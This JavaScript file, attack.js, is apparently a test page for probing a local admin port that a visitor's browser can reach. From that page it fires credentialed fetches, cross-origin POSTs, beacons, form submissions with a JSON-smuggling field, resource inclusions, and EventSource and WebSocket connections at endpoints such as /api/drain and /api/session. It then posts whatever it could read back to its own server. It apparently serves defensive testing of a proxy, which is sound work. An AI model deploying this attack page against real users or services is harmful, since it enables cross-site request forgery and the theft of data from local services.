/* SPDX-License-Identifier: MIT */
/* attack.js - what a page of somebody else's can try against the admin port
 * that its visitor can reach. Tells its own server what it could read. */

const target = new URLSearchParams(location.search).get("target");
const asset = new URLSearchParams(location.search).get("asset");
const pages = ["/", "/health", "/metrics", "/api/usage", "/api/session", "/openapi.json", "/login"];
const orders = ["/api/drain", "/api/login", "/logout"];
const types = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "application/json"];
const LIMIT_MS = 4000;

const report = { read: [], tried: 0 };

/* A try: what it could read, or nothing. */
async function attempt(name, what) {
	const late = new Promise((done) => {
		setTimeout(done, LIMIT_MS, "");
	});
	report.tried++;
	const got = await Promise.race([Promise.resolve().then(what).catch(() => ""), late]);
	if (got)
		report.read.push(`${name}: ${String(got).slice(0, 200)}`);
}

async function text(r) {
	/* A refusal may be read where the page and the port have one origin. */
	return r.ok ? `${r.status} ${await r.text()}` : "";
}

/* True on load, false on error. */
function loads(element) {
	return new Promise((done) => {
		element.onload = () => done(true);
		element.onerror = () => done(false);
		document.body.append(element);
	});
}

function make(tag, properties) {
	return Object.assign(document.createElement(tag), properties);
}

async function fetches() {
	for (const path of pages) {
		for (const credentials of ["include", "omit"])
			await attempt(`fetch ${path}`, async () => text(await fetch(target + path, { credentials })));
		await attempt(`opaque ${path}`, async () => {
			const r = await fetch(target + path, { mode: "no-cors", credentials: "include" });
			return text(r);
		});
	}
	for (const path of orders) {
		for (const type of types) {
			for (const mode of ["cors", "no-cors"])
				await attempt(`post ${path} ${type}`, async () => text(await fetch(target + path, {
					method: "POST", mode, credentials: "include",
					headers: { "content-type": type }, body: '{"token":"guess"}',
				})));
			await attempt(`beacon ${path} ${type}`, () => {
				navigator.sendBeacon(target + path, new Blob(["{}"], { type }));
			});
		}
		for (const method of ["PUT", "DELETE", "PATCH"])
			await attempt(`${method} ${path}`, async () => text(await fetch(target + path, { method, credentials: "include" })));
	}
	await attempt("bearer", async () => text(await fetch(`${target}/metrics`, { headers: { authorization: "Bearer x" } })));
}

async function forms() {
	for (const path of orders) {
		for (const enctype of types.slice(0, 3)) {
			await attempt(`form ${path} ${enctype}`, async () => {
				const frame = make("iframe", { name: `f${Math.random()}` });
				const form = make("form", { method: "post", action: target + path, enctype, target: frame.name });
				form.append(make("input", { name: '{"token":"', value: '"}' }));
				document.body.append(form);
				const loaded = loads(frame);
				form.submit();
				await loaded;
				return frame.contentDocument?.body?.textContent?.includes("draining") ? "drained" : "";
			});
		}
	}
}

async function inclusions() {
	for (const path of [...pages, asset]) {
		const src = target + path;

		await attempt(`image ${path}`, async () => await loads(make("img", { src })) ? "an image" : "");
		await attempt(`script ${path}`, async () => await loads(make("script", { src })) ? "a script" : "");
		await attempt(`module ${path}`, async () => {
			await import(src);
			return "a module";
		});
		await attempt(`style ${path}`, async () => {
			const link = make("link", { rel: "stylesheet", href: src });
			await loads(link);
			return link.sheet?.cssRules?.length ? "rules" : "";
		});
		await attempt(`frame ${path}`, async () => {
			const frame = make("iframe", { src });
			await loads(frame);
			return frame.contentDocument?.body?.textContent?.match(/workers|glmproxy_/) ? frame.contentDocument.body.textContent : "";
		});
		await attempt(`object ${path}`, async () => {
			const object = make("object", { data: src });
			await loads(object);
			return object.contentDocument?.body?.textContent?.match(/workers|glmproxy_/) ? "an object" : "";
		});
	}
}

async function streams() {
	await attempt("events", () => new Promise((done) => {
		const source = new EventSource(`${target}/api/events`, { withCredentials: true });
		source.onopen = () => done("open");
		source.onerror = () => {
			source.close();
			done("");
		};
	}));
	for (const path of ["/api/events", "/health"])
		await attempt(`socket ${path}`, () => new Promise((done) => {
			const socket = new WebSocket(target.replace("http", "ws") + path);
			socket.onopen = () => done("open");
			socket.onerror = () => done("");
		}));
}

for (const part of [fetches, forms, inclusions, streams])
	await part();
await fetch("/visit/report", { method: "POST", body: JSON.stringify(report) });
